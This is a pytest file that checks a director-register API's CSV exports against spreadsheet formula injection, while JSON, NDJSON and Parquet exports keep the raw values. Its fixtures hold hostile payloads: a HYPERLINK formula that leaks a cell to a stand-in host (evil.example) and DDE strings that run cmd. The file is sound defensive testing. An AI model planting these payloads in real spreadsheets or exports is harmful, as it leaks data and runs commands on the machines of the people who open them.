"""Exported CSV never runs as a spreadsheet formula; JSON, NDJSON and Parquet keep the true value (OWASP)."""

import csv
import io
import json
import zipfile
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import AsyncSession

from register.exports.formulas import FORMULA_STARTS, neutralised
from tests.conftest import Orgs, TokenFactory, director_body
from tests.exports.readback import export

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
DDE = "+cmd|' /C calc'!A0"
ARITHMETIC = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
EQUALS = "=1+1"


@pytest.fixture
async def formula_director(client: httpx.AsyncClient, auth: TokenFactory, orgs: Orgs) -> dict[str, Any]:
    """An RJ1 director whose name, qualification and employment text are spreadsheet formulas."""
    hr = auth("trust_hr", org="RJ1")
    response = await client.post("/v1/directors", json=director_body(given_name=HYPERLINK, family_name=DDE), headers=hr)
    assert response.status_code == 201, response.text
    director: dict[str, Any] = response.json()
    base = f"/v1/directors/{director['id']}"
    qualification = {"title": ARITHMETIC, "awarding_body": AT_SUM, "awarded_on": "2010-07-01"}
    assert (await client.post(f"{base}/qualifications", json=qualification, headers=hr)).status_code == 201
    role = {"kind": "role", "employer_name": "Acme", "role_title": EQUALS, "start_date": "2015-01-01"}
    assert (await client.post(f"{base}/employment", json=role, headers=hr)).status_code == 201
    return director


CELLS = {
    "directors": {"given_name": HYPERLINK, "family_name": DDE},
    "qualifications": {"title": ARITHMETIC, "awarding_body": AT_SUM},
    "employment": {"role_title": EQUALS},
}


@pytest.mark.parametrize("dataset", sorted(CELLS))
async def test_formula_cells_are_text_in_csv(
    client: httpx.AsyncClient, auth: TokenFactory, formula_director: dict[str, Any], dataset: str
) -> None:
    rows, _ = await export(client, auth("regulator"), dataset, "csv")
    for field, value in CELLS[dataset].items():
        cells = {r[field] for r in rows}
        assert "'" + value in cells, (field, cells)
        assert not any(c.startswith(FORMULA_STARTS) for c in cells if c), (field, cells)


@pytest.mark.parametrize("fmt", ["ndjson", "parquet"])
@pytest.mark.parametrize("dataset", sorted(CELLS))
async def test_other_formats_keep_the_true_value(
    client: httpx.AsyncClient, auth: TokenFactory, formula_director: dict[str, Any], dataset: str, fmt: str
) -> None:
    rows, _ = await export(client, auth("regulator"), dataset, fmt)
    for field, value in CELLS[dataset].items():
        assert value in {r[field] for r in rows}, field


async def test_the_director_json_keeps_the_true_value(
    client: httpx.AsyncClient, auth: TokenFactory, formula_director: dict[str, Any]
) -> None:
    response = await client.get(f"/v1/directors/{formula_director['id']}", headers=auth("regulator"))
    assert (response.json()["given_name"], response.json()["family_name"]) == (HYPERLINK, DDE)


async def test_subject_access_csv_is_defused_and_its_json_is_true(
    client: httpx.AsyncClient, auth: TokenFactory, formula_director: dict[str, Any]
) -> None:
    own = auth("director", sub="formula-director", director_id=formula_director["id"])
    response = await client.get("/v1/me/record", params={"format": "zip"}, headers=own)
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        [director] = list(csv.DictReader(io.StringIO(archive.read("director.csv").decode("utf-8-sig"))))
        record = json.loads(archive.read("record.json"))
    assert (director["given_name"], director["family_name"]) == ("'" + HYPERLINK, "'" + DDE)
    assert (record["director"]["given_name"], record["director"]["family_name"]) == (HYPERLINK, DDE)


@pytest.mark.parametrize("start", FORMULA_STARTS)
async def test_every_formula_start_is_defused_by_postgresql(db: AsyncSession, start: str) -> None:
    value = f"{start}1+1"
    assert await db.scalar(sa.select(neutralised(sa.literal(value)))) == "'" + value
    assert await db.scalar(sa.select(neutralised(sa.literal("1+1=2")))) == "1+1=2"
    assert await db.scalar(sa.select(neutralised(sa.literal(None, sa.Text)))) is None
